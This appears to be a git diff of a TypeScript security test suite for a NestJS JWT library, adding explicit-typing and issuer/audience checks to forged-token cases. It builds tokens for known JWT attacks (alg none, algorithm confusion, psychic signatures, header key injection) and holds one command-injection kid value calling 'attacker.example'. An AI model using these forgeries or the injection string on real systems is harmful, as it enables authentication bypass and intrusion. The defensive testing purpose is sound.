@@ -17,7 +17,7 @@ import type { AddressInfo } from 'node:net';
 import { DataSource } from 'typeorm';
 import { AuthTokenService } from 'nestjs-jwt-revocation';
 import { testMatrix } from './support/databases';
-import { bearer, registerAndLogin, startApp, TEST_SECRET, type LoggedIn, type TestApp } from './support/test-app';
+import { bearer, registerAndLogin, startApp, TEST_AUDIENCE, TEST_ISSUER, TEST_SECRET, type LoggedIn, type TestApp } from './support/test-app';
 
 // ---------- forging ----------
 
@@ -78,7 +78,7 @@ const highS =
     b64url(withS(cryptoSign('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' }), 'high'));
 
 const appSecret = hmac(TEST_SECRET);
-const HS = { alg: 'HS256', typ: 'JWT' };
+const HS = { alg: 'HS256', typ: 'at+jwt' };
 const CANARY = 'cnry-7f3a9c'; // written into forged tokens; no response body may contain it
 
 const nowSeconds = () => Math.floor(Date.now() / 1000);
@@ -162,7 +162,7 @@ interface AttackCase {
 
 function claimsOf(user: Victim, overrides: Record<string, unknown> = {}): Record<string, unknown> {
   const now = nowSeconds();
-  return { sub: String(user.id), ver: 0, typ: 'access', jti: randomUUID(), sid: user.sid, iat: now, exp: now + 900, cnry: CANARY, ...overrides };
+  return { sub: String(user.id), ver: 0, typ: 'access', jti: randomUUID(), sid: user.sid, iat: now, exp: now + 900, iss: TEST_ISSUER, aud: TEST_AUDIENCE, cnry: CANARY, ...overrides };
 }
 
 /** A token of the victim signed with the app secret, identical to a real one except for `overrides`. */
@@ -192,43 +192,53 @@ const cases: AttackCase[] = [
   {
     name: 'control: an ES256 token with kid es-1 signed by the configured EC key is accepted',
     expect: 'ok',
-    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'JWT', kid: 'es-1' }, claimsOf(c.multiVictim), asymmetric('ES256', appEc.privateKey)) }),
+    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'at+jwt', kid: 'es-1' }, claimsOf(c.multiVictim), asymmetric('ES256', appEc.privateKey)) }),
   },
   {
     name: 'control: an EdDSA token with kid ed-1 signed by the configured Ed25519 key is accepted',
     expect: 'ok',
-    build: (c) => ({ app: 'multi', token: jws({ alg: 'EdDSA', typ: 'JWT', kid: 'ed-1' }, claimsOf(c.multiVictim), asymmetric('EdDSA', appEd.privateKey)) }),
+    build: (c) => ({ app: 'multi', token: jws({ alg: 'EdDSA', typ: 'at+jwt', kid: 'ed-1' }, claimsOf(c.multiVictim), asymmetric('EdDSA', appEd.privateKey)) }),
   },
 
   // alg "none" (RFC 8725 §3.1, RFC 7518 §3.6, jwt_tool -X a, CVE-2022-23540)
-  { name: 'alg "none" without signature', expect: 'invalid_token', build: (c) => ({ token: `${segment({ alg: 'none', typ: 'JWT' })}.${segment(claimsOf(c.victim))}.` }) },
+  // RFC 9068 §2.1 / RFC 8725 §3.11: explicit typing, so no other JWT signed with the key passes as an access token.
+  { name: 'typ "JWT" (an ordinary JWT, e.g. from the app\'s own JwtService), otherwise valid', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, {}, { alg: 'HS256', typ: 'JWT' }) }) },
+  { name: 'no typ in the header, otherwise valid', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, {}, { alg: 'HS256' }) }) },
+  { name: 'typ "at+jwt" only as a payload claim', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { typ: 'at+jwt' }, { alg: 'HS256' }) }) },
+  // Issue 11 item 18: the demo sets issuer and audience, so a token minted for another service with the same key is refused.
+  { name: 'iss missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'iss'), appSecret) }) },
+  { name: 'iss of another service', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { iss: 'https://other.example' }) }) },
+  { name: 'aud missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'aud'), appSecret) }) },
+  { name: 'aud of another service', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { aud: 'other-api' }) }) },
+  { name: 'aud an array without ours', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { aud: ['other-api', 'third-api'] }) }) },
+  { name: 'alg "none" without signature', expect: 'invalid_token', build: (c) => ({ token: `${segment({ alg: 'none', typ: 'at+jwt' })}.${segment(claimsOf(c.victim))}.` }) },
   { name: 'alg "none" with an empty signature segment accepted by lenient parsers', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'none' }, claimsOf(c.victim), noSignature) }) },
-  { name: 'alg "None" with the valid HMAC signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'None', typ: 'JWT' }, claimsOf(c.victim), appSecret) }) },
-  { name: 'alg "NONE" with a junk signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'NONE', typ: 'JWT' }, claimsOf(c.victim), fixedSignature('AAAA')) }) },
-  { name: 'alg "nOnE" without signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'nOnE', typ: 'JWT' }, claimsOf(c.victim), noSignature) }) },
-  { name: 'alg missing from the header, valid HMAC signature', expect: 'invalid_token', build: (c) => ({ token: jws({ typ: 'JWT' }, claimsOf(c.victim), appSecret) }) },
-  { name: 'alg as an array ["HS256"]', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: ['HS256'], typ: 'JWT' }, claimsOf(c.victim), appSecret) }) },
+  { name: 'alg "None" with the valid HMAC signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'None', typ: 'at+jwt' }, claimsOf(c.victim), appSecret) }) },
+  { name: 'alg "NONE" with a junk signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'NONE', typ: 'at+jwt' }, claimsOf(c.victim), fixedSignature('AAAA')) }) },
+  { name: 'alg "nOnE" without signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'nOnE', typ: 'at+jwt' }, claimsOf(c.victim), noSignature) }) },
+  { name: 'alg missing from the header, valid HMAC signature', expect: 'invalid_token', build: (c) => ({ token: jws({ typ: 'at+jwt' }, claimsOf(c.victim), appSecret) }) },
+  { name: 'alg as an array ["HS256"]', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: ['HS256'], typ: 'at+jwt' }, claimsOf(c.victim), appSecret) }) },
   {
     name: 'duplicate "alg" in the header JSON, "none" last (parser differential)',
     expect: 'invalid_token',
-    build: (c) => ({ token: jws(rawJson('{"alg":"HS256","alg":"none","typ":"JWT"}'), claimsOf(c.victim), appSecret) }),
+    build: (c) => ({ token: jws(rawJson('{"alg":"HS256","alg":"none","typ":"at+jwt"}'), claimsOf(c.victim), appSecret) }),
   },
 
   // Algorithm pinning and confusion (RFC 8725 §2.1/§3.1, CVE-2022-23541, jwt_tool -X k)
-  { name: 'alg HS384 signed with the app secret (algorithm is the key\'s, not the header\'s)', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'HS384', typ: 'JWT' }, claimsOf(c.victim), hmac(TEST_SECRET, 'sha384')) }) },
-  { name: 'alg HS512 signed with the app secret', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'HS512', typ: 'JWT' }, claimsOf(c.victim), hmac(TEST_SECRET, 'sha512')) }) },
+  { name: 'alg HS384 signed with the app secret (algorithm is the key\'s, not the header\'s)', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'HS384', typ: 'at+jwt' }, claimsOf(c.victim), hmac(TEST_SECRET, 'sha384')) }) },
+  { name: 'alg HS512 signed with the app secret', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'HS512', typ: 'at+jwt' }, claimsOf(c.victim), hmac(TEST_SECRET, 'sha512')) }) },
   { name: 'HS256 signed with the secret of another app', expect: 'invalid_token', build: (c) => ({ token: jws(HS, claimsOf(c.victim), hmac(OTHER_APP_SECRET)) }) },
   { name: 'HS256 signed with an empty key (jwt_tool blank password)', expect: 'invalid_token', build: (c) => ({ token: jws(HS, claimsOf(c.victim), hmac('')) }) },
-  { name: 'RS256 header against the HS256 app, signed with an attacker RSA key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'RS256', typ: 'JWT' }, claimsOf(c.victim), asymmetric('RS256', attackerRsa.privateKey)) }) },
-  { name: 'RS256 header against the HS256 app, HMAC-signed with the app secret', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'RS256', typ: 'JWT' }, claimsOf(c.victim), appSecret) }) },
-  { name: 'ES256 header against the HS256 app, signed with an attacker EC key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'ES256', typ: 'JWT' }, claimsOf(c.victim), asymmetric('ES256', attackerEc.privateKey)) }) },
-  { name: 'EdDSA header against the HS256 app, signed with an attacker Ed25519 key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'EdDSA', typ: 'JWT' }, claimsOf(c.victim), asymmetric('EdDSA', attackerEd.privateKey)) }) },
+  { name: 'RS256 header against the HS256 app, signed with an attacker RSA key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'RS256', typ: 'at+jwt' }, claimsOf(c.victim), asymmetric('RS256', attackerRsa.privateKey)) }) },
+  { name: 'RS256 header against the HS256 app, HMAC-signed with the app secret', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'RS256', typ: 'at+jwt' }, claimsOf(c.victim), appSecret) }) },
+  { name: 'ES256 header against the HS256 app, signed with an attacker EC key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'ES256', typ: 'at+jwt' }, claimsOf(c.victim), asymmetric('ES256', attackerEc.privateKey)) }) },
+  { name: 'EdDSA header against the HS256 app, signed with an attacker Ed25519 key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'EdDSA', typ: 'at+jwt' }, claimsOf(c.victim), asymmetric('EdDSA', attackerEd.privateKey)) }) },
   {
     name: 'CVE-2022-23541: HS256 with kid rs-1, HMAC-signed with the RSA public key PEM',
     expect: 'invalid_token',
     build: (c) => ({
       app: 'multi',
-      token: jws({ alg: 'HS256', typ: 'JWT', kid: 'rs-1' }, claimsOf(c.multiVictim), hmac(appRsa.publicKey.export({ type: 'spki', format: 'pem' }) as string)),
+      token: jws({ alg: 'HS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim), hmac(appRsa.publicKey.export({ type: 'spki', format: 'pem' }) as string)),
     }),
   },
   {
@@ -236,7 +246,7 @@ const cases: AttackCase[] = [
     expect: 'invalid_token',
     build: (c) => ({
       app: 'multi',
-      token: jws({ alg: 'HS256', typ: 'JWT', kid: 'rs-1' }, claimsOf(c.multiVictim), hmac(appRsa.publicKey.export({ type: 'pkcs1', format: 'der' }) as Buffer)),
+      token: jws({ alg: 'HS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim), hmac(appRsa.publicKey.export({ type: 'pkcs1', format: 'der' }) as Buffer)),
     }),
   },
   {
@@ -247,12 +257,12 @@ const cases: AttackCase[] = [
   {
     name: 'PS256 header with kid rs-1, signed with the app\'s own RSA private key (RS256-only key)',
     expect: 'invalid_token',
-    build: (c) => ({ app: 'multi', token: jws({ alg: 'PS256', typ: 'JWT', kid: 'rs-1' }, claimsOf(c.multiVictim), asymmetric('PS256', appRsa.privateKey)) }),
+    build: (c) => ({ app: 'multi', token: jws({ alg: 'PS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim), asymmetric('PS256', appRsa.privateKey)) }),
   },
   {
     name: 'ES256 header naming the RSA kid rs-1, valid signature of the configured EC key',
     expect: 'invalid_token',
-    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'JWT', kid: 'rs-1' }, claimsOf(c.multiVictim), asymmetric('ES256', appEc.privateKey)) }),
+    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim), asymmetric('ES256', appEc.privateKey)) }),
   },
   {
     name: 'ES256 kid es-1, a valid signature of the configured EC key with s replaced by n − s (malleability)',
@@ -262,20 +272,20 @@ const cases: AttackCase[] = [
   {
     name: 'CVE-2022-21449 psychic signature: ES256 kid es-1 with r = s = 0',
     expect: 'invalid_token',
-    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'JWT', kid: 'es-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.alloc(64)))) }),
+    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'at+jwt', kid: 'es-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.alloc(64)))) }),
   },
   {
     name: 'CVE-2022-21449 variant: ES256 kid es-1 with r = s = n (the curve order)',
     expect: 'invalid_token',
     build: (c) => ({
       app: 'multi',
-      token: jws({ alg: 'ES256', typ: 'JWT', kid: 'es-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.concat([P256_ORDER, P256_ORDER])))),
+      token: jws({ alg: 'ES256', typ: 'at+jwt', kid: 'es-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.concat([P256_ORDER, P256_ORDER])))),
     }),
   },
   {
     name: 'EdDSA kid ed-1 with an all-zero signature',
     expect: 'invalid_token',
-    build: (c) => ({ app: 'multi', token: jws({ alg: 'EdDSA', typ: 'JWT', kid: 'ed-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.alloc(64)))) }),
+    build: (c) => ({ app: 'multi', token: jws({ alg: 'EdDSA', typ: 'at+jwt', kid: 'ed-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.alloc(64)))) }),
   },
 
   // Headers that let the token pick its key (CVE-2018-0114, RFC 8725 §3.10, jwt_tool -X i / -X s)
@@ -284,7 +294,7 @@ const cases: AttackCase[] = [
     expect: 'invalid_token',
     build: (c) => ({
       app: 'multi',
-      token: jws({ alg: 'RS256', typ: 'JWT', jwk: attackerRsa.publicKey.export({ format: 'jwk' }) }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
+      token: jws({ alg: 'RS256', typ: 'at+jwt', jwk: attackerRsa.publicKey.export({ format: 'jwk' }) }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
     }),
   },
   {
@@ -293,7 +303,7 @@ const cases: AttackCase[] = [
     build: (c) => ({
       app: 'multi',
       token: jws(
-        { alg: 'RS256', typ: 'JWT', kid: 'rs-1', jwk: { ...attackerRsa.publicKey.export({ format: 'jwk' }), kid: 'rs-1' } },
+        { alg: 'RS256', typ: 'at+jwt', kid: 'rs-1', jwk: { ...attackerRsa.publicKey.export({ format: 'jwk' }), kid: 'rs-1' } },
         claimsOf(c.multiVictim),
         asymmetric('RS256', attackerRsa.privateKey),
       ),
@@ -309,7 +319,7 @@ const cases: AttackCase[] = [
     expect: 'invalid_token',
     build: (c) => ({
       app: 'multi',
-      token: jws({ alg: 'RS256', typ: 'JWT', kid: 'rs-1', jku: `${c.keyServerUrl}/jwks.json` }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
+      token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-1', jku: `${c.keyServerUrl}/jwks.json` }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
     }),
   },
   {
@@ -317,7 +327,7 @@ const cases: AttackCase[] = [
     expect: 'invalid_token',
     build: (c) => ({
       app: 'multi',
-      token: jws({ alg: 'RS256', typ: 'JWT', kid: 'rs-1', x5u: `${c.keyServerUrl}/cert.pem` }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
+      token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-1', x5u: `${c.keyServerUrl}/cert.pem` }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
     }),
   },
   {
@@ -326,7 +336,7 @@ const cases: AttackCase[] = [
     build: (c) => ({
       app: 'multi',
       token: jws(
-        { alg: 'RS256', typ: 'JWT', x5c: [(attackerRsa.publicKey.export({ type: 'spki', format: 'der' }) as Buffer).toString('base64')] },
+        { alg: 'RS256', typ: 'at+jwt', x5c: [(attackerRsa.publicKey.export({ type: 'spki', format: 'der' }) as Buffer).toString('base64')] },
         claimsOf(c.multiVictim),
         asymmetric('RS256', attackerRsa.privateKey),
       ),
@@ -357,14 +367,14 @@ const cases: AttackCase[] = [
   },
   { name: 'kid command injection', expect: 'invalid_token', build: (c) => ({ token: jws({ ...HS, kid: '$(curl attacker.example)|id;' }, claimsOf(c.victim), appSecret) }) },
   { name: 'an unknown kid, valid HMAC signature', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, {}, { ...HS, kid: 'no-such-key' }) }) },
-  { name: 'an unknown kid on the multi-key app, signed with the real RSA key', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'JWT', kid: 'rs-0' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },
-  { name: 'no kid on the multi-key app (several keys: kid required)', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'JWT' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },
+  { name: 'an unknown kid on the multi-key app, signed with the real RSA key', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-0' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },
+  { name: 'no kid on the multi-key app (several keys: kid required)', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },
   {
     name: 'CVE-2022-23529 shape: kid an object with toString',
     expect: 'invalid_token',
-    build: (c) => ({ token: jws(rawJson('{"alg":"HS256","typ":"JWT","kid":{"toString":"x","valueOf":1,"__proto__":{"polluted":true}}}'), claimsOf(c.victim), appSecret) }),
+    build: (c) => ({ token: jws(rawJson('{"alg":"HS256","typ":"at+jwt","kid":{"toString":"x","valueOf":1,"__proto__":{"polluted":true}}}'), claimsOf(c.victim), appSecret) }),
   },
-  { name: 'kid "__proto__"', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'JWT', kid: '__proto__' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },
+  { name: 'kid "__proto__"', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt', kid: '__proto__' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },
 
   // Time claims (RFC 7519 §4.1.4-4.1.6)
   { name: 'expired an hour ago', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { iat: nowSeconds() - 4600, exp: nowSeconds() - 3600 }) }) },
@@ -389,7 +399,7 @@ const cases: AttackCase[] = [
     expect: 'invalid_token',
     build: (c) => {
       const exp = nowSeconds() + 60;
-      return { app: 'multi', token: jws({ alg: 'RS256', typ: 'JWT', kid: 'rs-1' }, claimsOf(c.multiVictim, { iat: exp - 900, exp }), asymmetric('RS256', appRsa.privateKey)), clock: exp * 1000 };
+      return { app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim, { iat: exp - 900, exp }), asymmetric('RS256', appRsa.privateKey)), clock: exp * 1000 };
     },
   },
   {
@@ -397,7 +407,7 @@ const cases: AttackCase[] = [
     expect: 'ok',
     build: (c) => {
       const exp = nowSeconds() + 60;
-      return { app: 'multi', token: jws({ alg: 'RS256', typ: 'JWT', kid: 'rs-1' }, claimsOf(c.multiVictim, { iat: exp - 900, exp }), asymmetric('RS256', appRsa.privateKey)), clock: exp * 1000 - 1 };
+      return { app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim, { iat: exp - 900, exp }), asymmetric('RS256', appRsa.privateKey)), clock: exp * 1000 - 1 };
     },
   },
   { name: 'nbf an hour in the future', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { nbf: nowSeconds() + 3600 }) }) },
